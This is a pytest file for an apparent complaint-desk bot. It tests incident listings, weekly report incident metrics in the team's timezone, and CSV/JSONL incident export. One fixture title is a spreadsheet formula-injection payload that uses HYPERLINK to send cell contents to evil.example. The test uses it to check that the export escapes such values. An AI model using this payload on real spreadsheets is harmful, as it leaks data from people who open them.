"""Incidents read back, on SQLite and PostgreSQL: the list's limits, the weekly report's incident line
in the team's week, and ``followthrough export --what incidents``.

The incidents are stored with the ORM at known times (how they are detected is
``tests/e2e/test_incidents.py``'s and ``tests/e2e/test_incident_list.py``'s business); the anchor
whose owner the export names is a real complaint, ingested and claimed through the desk.
"""

from __future__ import annotations

import csv
import io
import json
import os
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import Engine
from sqlalchemy.orm import Session, sessionmaker

from bot.cli import main
from bot.desk import complaints
from bot.intake.ingest import Ingestor, IngestPolicy
from bot.intake.posts import Post
from bot.reports import incidents as report
from bot.reports import weekly
from bot.store.engine import make_sessionmaker
from bot.store.models import Incident, IncidentUpdate
from bot.triage.classify import Triage

ALICE, BOB, CAROL = "UALICE0001", "UBOB000001", "UCAROL0001"


def utc(day: int, hour: int, minute: int = 0, second: int = 0, micro: int = 0) -> datetime:
    return datetime(2026, 3, day, hour, minute, second, micro, tzinfo=UTC)


def add_incident(sessions: sessionmaker[Session], **values: Any) -> int:
    """An incident as detection stores it; ``threshold_post_at``, ``first_post_at`` and the others
    default to its detection time."""
    detected = values["detected_at"]
    defaults: dict[str, Any] = dict(
        status="open",
        anchor_id=999_999,
        title="login, error",
        customers=20,
        posts=22,
        reach=5000,
        networks=["x"],
        first_post_at=detected,
        latest_post_at=detected,
        threshold_post_at=detected,
        updated_at=detected,
    )
    updates: list[list[dict[str, str]]] = values.pop("unreachable", [])
    with sessions() as s, s.begin():
        incident = Incident(**{**defaults, **values})
        s.add(incident)
        s.flush()
        for n, unreachable in enumerate(updates):
            s.add(
                IncidentUpdate(
                    incident_id=incident.id,
                    key=f"form-{incident.id}-{n}",
                    kind="update",
                    template="{name}, we are on it",
                    sent_by=BOB,
                    customers=10,
                    unreachable=unreachable,
                    created_at=detected + timedelta(minutes=10 * (n + 1)),
                )
            )
        return incident.id


@pytest.fixture
def sessions(migrated: Engine) -> sessionmaker[Session]:
    return make_sessionmaker(migrated)


# -- the list ---------------------------------------------------------------------------------------


def test_the_list_reads_a_few_counts_them_all_and_keeps_a_fortnight_of_resolved(sessions):
    now = utc(20, 12)
    opened = [add_incident(sessions, detected_at=now - timedelta(hours=n)) for n in range(33)]
    edge = add_incident(
        sessions, status="resolved", detected_at=now - timedelta(days=15), resolved_at=now - timedelta(days=14)
    )
    add_incident(
        sessions,
        status="resolved",
        detected_at=now - timedelta(days=15),
        resolved_at=now - timedelta(days=14, microseconds=1),
    )
    with sessions() as s:
        found = report.listing(s, now)
    assert [i.id for i in found.open] == opened[:30], "newest first, at most LISTED read"
    assert (found.open_total, found.resolved_total, found.unread) == (33, 1, 3)
    assert [i.id for i in found.resolved] == [edge], "resolved fourteen days ago to the microsecond: still listed"
    assert found.open[0].owner_id is None, "no anchor, and nobody took it"
    assert found.open[0].latest is None, "no update yet"


# -- the weekly report ------------------------------------------------------------------------------

TOKYO = "Asia/Tokyo"
"""UTC+9: the team's week 2026-W11 is 2026-03-08 15:00 UTC to 2026-03-15 15:00 UTC."""


@pytest.fixture
def outages(sessions: sessionmaker[Session]) -> None:
    """Five incidents around the team's week 2026-W11 (times in UTC)."""
    # A: detected on Monday 01:00 in Tokyo (still Sunday in UTC), 30 s after its threshold post;
    # first update 25 min and resolve 3 h after its first post, both in W11.
    add_incident(
        sessions,
        status="resolved",
        customers=40,
        first_post_at=utc(8, 15, 50),
        threshold_post_at=utc(8, 15, 59, 30),
        detected_at=utc(8, 16),
        first_update_at=utc(8, 16, 15),
        resolved_at=utc(8, 18, 50),
    )
    # B: detected on Sunday 23:00 in Tokyo (W10), 20 min after its threshold post; its first update
    # (150 min) and its resolve (5 h) come in W11.
    add_incident(
        sessions,
        status="resolved",
        customers=100,
        first_post_at=utc(8, 13),
        threshold_post_at=utc(8, 13, 40),
        detected_at=utc(8, 14),
        first_update_at=utc(8, 15, 30),
        resolved_at=utc(8, 18),
    )
    # C: W11, 75 s to detect, first update 35 min after its first post; still open.
    add_incident(
        sessions,
        customers=20,
        first_post_at=utc(11, 9, 50),
        threshold_post_at=utc(11, 9, 58, 45),
        detected_at=utc(11, 10),
        first_update_at=utc(11, 10, 25),
    )
    # D: Sunday 23:59 in Tokyo (W11), 10 min to detect, no update yet.
    add_incident(sessions, customers=10, threshold_post_at=utc(15, 14, 49), detected_at=utc(15, 14, 59))
    # E: Monday 00:00 in Tokyo: W12.
    add_incident(sessions, customers=1000, detected_at=utc(15, 15))


def monday_report(sessions: sessionmaker[Session], day: int, **kw: Any) -> dict[str, Any]:
    """The report the Monday job makes at 09:00 in Tokyo on 2026-03-``day`` (the week before it)."""
    with sessions() as s:
        return weekly.payload(s, now=datetime(2026, 3, day, tzinfo=UTC), tz=TOKYO, **kw)


def test_the_weekly_report_says_the_weeks_incidents_in_the_teams_week(sessions, outages):
    w11 = monday_report(sessions, 16)
    assert w11["period"] == "2026-W11"
    assert w11["incidents"] == {
        "detected": 3,  # A, C, D: not B (Sunday in Tokyo) nor E (the next Monday in Tokyo)
        "customers": 70,
        "detect_median_s": 75.0,  # of 30 s, 75 s and 600 s
        "updated": 3,  # A, B and C reached customers in W11
        "first_update_median_s": 35 * 60.0,  # of 25, 150 and 35 minutes
        "resolved": 2,
        "resolve_median_s": 4 * 3600.0,  # of 3 h and 5 h
    }
    text = weekly.text(w11)
    assert (
        "Incidents: 3 detected, 70 customers affected · time to detect: median 75 s"
        " · to first public update: median 35 min (3 updated) · to resolve: median 4.0 h (2 resolved)"
    ) in text
    assert not weekly.is_empty(w11), "a week with only an incident in it is still reported"

    w10 = monday_report(sessions, 9)
    assert w10["incidents"]["detected"] == 1  # B
    assert "Incidents: 1 detected, 100 customers affected · time to detect: median 20 min" in weekly.text(w10)
    assert "to resolve: median – (0 resolved)" in weekly.text(w10)


def test_no_incident_no_line_and_none_in_one_persons_report(sessions, outages):
    w9 = monday_report(sessions, 2)
    assert w9["incidents"] is None
    assert "Incidents" not in weekly.text(w9)
    assert weekly.is_empty(w9)
    mine = monday_report(sessions, 16, person=ALICE)
    assert mine["incidents"] is None
    assert "Incidents" not in weekly.text(mine)
    # A report stored before incidents were reported (a queued delivery after the upgrade) has none.
    old = monday_report(sessions, 16)
    del old["incidents"]
    assert "Incidents" not in weekly.text(old)


# -- the export ---------------------------------------------------------------------------------------

COLUMNS = [
    "id",
    "status",
    "title",
    "detected_at",
    "threshold_post_at",
    "first_post_at",
    "latest_post_at",
    "first_update_at",
    "resolved_at",
    "customers",
    "posts",
    "reach",
    "networks",
    "owner_id",
    "resolved_by",
    "merged_into",
    "updates",
    "unreachable",
    "seconds_to_detect",
    "seconds_to_first_update",
    "seconds_to_resolve",
]
TITLE = '=HYPERLINK("https://evil.example/?leak="&A1,"Click") \x01bell, "login"'
NEW_YORK_MARCH_2 = utc(2, 5)
"""Midnight on 2 March in New York (UTC-5)."""


def claimed_complaint(sessions: sessionmaker[Session], owner: str) -> int:
    post = Post(
        source="x",
        id="1",
        text="@AcmeHelp can't log in to the app, error again",
        author_id="a1",
        author_handle="cust1",
        created_at=utc(2, 5),
    )
    with sessions() as s, s.begin():
        result = Ingestor(Triage(), IngestPolicy("C0COMPLAIN")).ingest(s, post, at=utc(2, 5))
        assert result.complaint_id is not None
        complaints.claim(s, result.complaint_id, user_id=owner, at=utc(2, 5, 1))
        return result.complaint_id


@pytest.fixture
def exported(sessions, db_url: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> dict[str, int]:
    monkeypatch.setenv("DATABASE_URL", db_url)
    monkeypatch.setenv("TEAM_TIMEZONE", "America/New_York")
    monkeypatch.chdir(tmp_path)  # no stray .env is read
    anchor = claimed_complaint(sessions, CAROL)
    ids = {
        "before": add_incident(sessions, detected_at=NEW_YORK_MARCH_2 - timedelta(microseconds=1)),
        # Resolved; its anchor is Carol's now (the copy taken at its first update says Bob).
        "resolved": add_incident(
            sessions,
            status="resolved",
            anchor_id=anchor,
            owner_id=BOB,
            resolved_by=ALICE,
            title=TITLE,
            customers=41,
            posts=45,
            reach=123_456,
            networks=["bluesky", "mastodon", "x"],
            first_post_at=utc(2, 4, 30),
            latest_post_at=utc(2, 5, 10),
            threshold_post_at=utc(2, 4, 59, 29, 500_000),
            detected_at=NEW_YORK_MARCH_2,  # on the window's first moment
            first_update_at=utc(2, 4, 49, 59, 400_000),  # 1199.4 s after the first post
            resolved_at=utc(2, 6, 30),
            unreachable=[[{"handle": "a", "source": "x", "why": "-", "post": "1"}] * 2, [{"handle": "b"}] * 3],
        ),
        # Open; its anchor is gone (forgotten) and nobody took it; half a second to detect.
        "open": add_incident(
            sessions,
            networks=[],
            threshold_post_at=utc(4, 4, 59, 59, 499_999),
            detected_at=utc(4, 4, 59, 59, 999_999),  # the window's last moment (3 March in New York)
        ),
        "after": add_incident(sessions, detected_at=utc(4, 5)),
    }
    return ids


def run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    code = main(["--env-file", os.devnull, "export", "--since", "2026-03-02", "--until", "2026-03-03", *args])
    out = capsys.readouterr()
    return code, out.out, out.err


def test_incidents_export_one_row_each_detected_in_the_window_in_team_time(exported, capsys):
    code, out, err = run(capsys, "--what", "incidents")
    assert code == 0, err
    assert err.strip() == "2 incidents exported"
    table = list(csv.reader(io.StringIO(out, newline="")))
    assert table[0] == COLUMNS
    rows = [dict(zip(COLUMNS, row, strict=True)) for row in table[1:]]
    assert [int(r["id"]) for r in rows] == [exported["resolved"], exported["open"]]
    resolved, still_open = rows
    assert resolved == {
        "id": str(exported["resolved"]),
        "status": "resolved",
        "title": "'" + TITLE.replace("\x01", ""),  # a spreadsheet shows it as text; no control character
        "detected_at": "2026-03-02T05:00:00.000000+00:00",
        "threshold_post_at": "2026-03-02T04:59:29.500000+00:00",
        "first_post_at": "2026-03-02T04:30:00.000000+00:00",
        "latest_post_at": "2026-03-02T05:10:00.000000+00:00",
        "first_update_at": "2026-03-02T04:49:59.400000+00:00",
        "resolved_at": "2026-03-02T06:30:00.000000+00:00",
        "customers": "41",
        "posts": "45",
        "reach": "123456",
        "networks": "bluesky;mastodon;x",
        "owner_id": CAROL,
        "resolved_by": ALICE,
        "merged_into": "",
        "updates": "2",
        "unreachable": "5",
        "seconds_to_detect": "31",  # 30.5 s, rounded half away from zero on both engines
        "seconds_to_first_update": "1199",
        "seconds_to_resolve": "7200",
    }
    assert still_open["status"] == "open"
    assert still_open["detected_at"] == "2026-03-04T04:59:59.999999+00:00"
    assert [still_open[k] for k in ("networks", "owner_id", "resolved_by", "updates", "unreachable")] == [
        "",
        "",
        "",
        "0",
        "0",
    ]
    assert [still_open[k] for k in ("seconds_to_detect", "seconds_to_first_update", "seconds_to_resolve")] == [
        "1",
        "",
        "",
    ]

    code, out, _ = run(capsys, "--what", "incidents", "--raw")
    assert code == 0
    assert [r["title"] for r in csv.DictReader(io.StringIO(out, newline=""))] == [TITLE, "login, error"]

    code, out, _ = run(capsys, "--what", "incidents", "--format", "jsonl")
    assert code == 0
    first, second = (json.loads(line) for line in out.splitlines())
    assert list(first) == COLUMNS
    assert first["title"] == TITLE  # JSON is never changed: nothing evaluates it
    assert (first["networks"], first["owner_id"], first["updates"], first["unreachable"]) == (
        "bluesky;mastodon;x",
        CAROL,
        2,
        5,
    )
    assert (first["seconds_to_detect"], first["seconds_to_first_update"], first["seconds_to_resolve"]) == (
        31,
        1199,
        7200,
    )
    assert (second["resolved_at"], second["seconds_to_resolve"], second["owner_id"]) == (None, None, None)


def test_the_export_help_names_incidents(capsys):
    with pytest.raises(SystemExit):
        main(["export", "--help"])
    shown = " ".join(capsys.readouterr().out.split())
    assert "complaints, promises, events or incidents" in shown
    assert "--what {complaints,events,incidents,promises}" in shown
